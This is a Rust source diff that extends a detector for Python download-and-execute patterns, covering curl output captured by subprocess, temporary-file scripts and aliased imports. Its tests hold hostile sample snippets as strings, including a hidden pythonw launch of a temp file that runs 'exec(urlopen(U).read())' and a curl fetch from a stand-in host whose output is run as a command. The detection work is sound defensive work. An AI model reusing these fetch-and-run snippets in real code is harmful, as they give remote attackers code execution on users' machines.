@@ -19,7 +19,7 @@ use crate::pyblocks::LineInfo;
 use regex::Regex;
 use std::collections::{BTreeMap, BTreeSet};
 use std::sync::LazyLock;
-use syntax::{call_args, is_name, mentions_name, statements, unquote};
+use syntax::{call_args, is_name, mentions_name, statements, unquote, without_strings};
 
 mod commands;
 mod facts;
@@ -67,6 +67,22 @@ pub(super) static FETCH: LazyLock<Regex> = LazyLock::new(|| {
         r"\b(?:urlopen|(?:requests|httpx|urllib3|\w*session|sess)\.(?:get|post|request|stream)|PoolManager\(\)\.request)\s*\(",
     )
     .expect("valid regex")
+});
+/// The captured output of a curl command (`subprocess.getoutput('curl http://x')`) is the
+/// response body, as surely as `requests.get(u).text`; `-o` writes it to a file instead.
+static CURL_OUTPUT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"\b(?:subprocess\.(?:getoutput|check_output|run)|os\.popen)\s*\(\s*[\[(]?\s*[rfbu]?["']curl["'\s]"#,
+    )
+    .expect("valid regex")
+});
+static CURL_TO_FILE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"["'\s](?:-o|-O|--output|--remote-name)["'\s=]"#).expect("valid regex")
+});
+/// A temporary file kept open for writing: its `.name` is the path written.
+static TEMP_FILE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"^(?:(\w+)\s*=\s*|with\s+)(?:tempfile\.)?NamedTemporaryFile\s*\(")
+        .expect("valid regex")
 });
 /// Calls that fetch a URL straight into a file named by their second argument.
 static RETRIEVE: LazyLock<Regex> = LazyLock::new(|| {
@@ -198,7 +214,9 @@ struct Statement<'a> {
 }
 
 fn is_fetch(expr: &str, facts: &FileFacts) -> bool {
-    FETCH.is_match(expr) || facts.fetchers.iter().any(|f| called(expr, f))
+    FETCH.is_match(expr)
+        || (CURL_OUTPUT.is_match(expr) && !CURL_TO_FILE.is_match(expr))
+        || facts.fetchers.iter().any(|f| called(expr, f))
 }
 
 fn follow(
@@ -211,7 +229,8 @@ fn follow(
     let mut script: Option<ScopeRun> = None;
     let mut returns_download = None;
     for (line, text) in statements {
-        let text = text.trim();
+        let text = facts.unaliased(text.trim());
+        let text = text.as_ref();
         let cost = text.len().saturating_mul(1 + t.names());
         if cost > *budget {
             break;
@@ -220,7 +239,8 @@ fn follow(
         let s = Statement {
             line: *line,
             text,
-            fetches: is_fetch(text, facts),
+            fetches: is_fetch(text, facts)
+                && (CURL_OUTPUT.is_match(text) || is_fetch(&without_strings(text), facts)),
         };
         if let Some(run) = t.runs_what_it_got(&s, facts) {
             return Followed {
@@ -302,6 +322,19 @@ impl Tracker {
         for m in RETRIEVE.find_iter(text).take(MAX_CALLS) {
             if let Some(path) = call_args(text, m.end() - 1).get(1) {
                 remember(&mut self.download_paths, path, (line, line), |v| v.0);
+            }
+        }
+        // `t = NamedTemporaryFile(delete=False)`: written through `t`, started as `t.name`.
+        if let Some(c) = TEMP_FILE.captures(text) {
+            let handle = c.get(1).map(|m| m.as_str().to_string()).or_else(|| {
+                WITH_AS
+                    .captures(&text[c.get(0).map_or(0, |m| m.end())..])
+                    .map(|w| w[1].to_string())
+            });
+            if let Some(handle) = handle {
+                let path = format!("{handle}.name");
+                remember(&mut self.written_paths, &path, (line, line), |v| v.0);
+                remember(&mut self.handles, &handle, (line, path), |v| v.0);
             }
         }
         // `with open(p, 'wb') as f:`, `d = open(p, 'wb')` and `open(p, 'wb').write(data)`.
@@ -647,6 +680,43 @@ mod tests {
                        f.write(r.content)\n    return dest\n\ndef build():\n    path = _fetch()\n    \
                        tarfile.open(path).extractall(tmp)\n    subprocess.run(['make', '-C', tmp])\n";
         assert_eq!(flow(archive), None);
+    }
+
+    #[test]
+    fn aliased_imports_temporary_files_and_curl_output_are_read() {
+        // A script written to a temporary file under aliased names, started with pythonw.
+        let temp = "from os import system as _s\nfrom sys import executable as _e\n\
+                    from tempfile import NamedTemporaryFile as _t\n_f = _t(delete=False)\n\
+                    _f.write(b\"\"\"exec(urlopen(U).read())\"\"\")\n_f.close()\ntry:\n    \
+                    if _n == 'nt':\n        _s(f\"start {_e.replace('.exe', 'w.exe')} {_f.name}\")\n\
+                    except: pass\n";
+        assert_eq!(
+            flow(temp).map(|f| (f.run_line, f.ran)),
+            Some((
+                9,
+                Ran::WrittenScript {
+                    path: "_f.name".to_string(),
+                    written_line: 4
+                }
+            ))
+        );
+        // What curl printed, run as a command, is a remote shell; a file curl wrote is not
+        // a response.
+        let curl = "try:\n    banner = subprocess.getoutput('curl http://x.example/m.html')\n    \
+                    subprocess.getoutput(str(banner))\nexcept:\n    pass\n";
+        assert_eq!(
+            flow(curl).map(|f| f.ran),
+            Some(Ran::Command { fetched_line: 2 })
+        );
+        let to_file =
+            "out = subprocess.check_output(['curl', '-o', 'x.tgz', U])\nsubprocess.run(out)\n";
+        assert_eq!(flow(to_file), None);
+        // An alias is replaced as a name, never inside another name or after a dot.
+        let facts = file_facts(b"import subprocess as sp\n", &[]);
+        assert_eq!(
+            facts.unaliased("sp.run(x); wsp.run(y); a.sp.run(z)"),
+            "subprocess.run(x); wsp.run(y); a.sp.run(z)"
+        );
     }
 
     #[test]
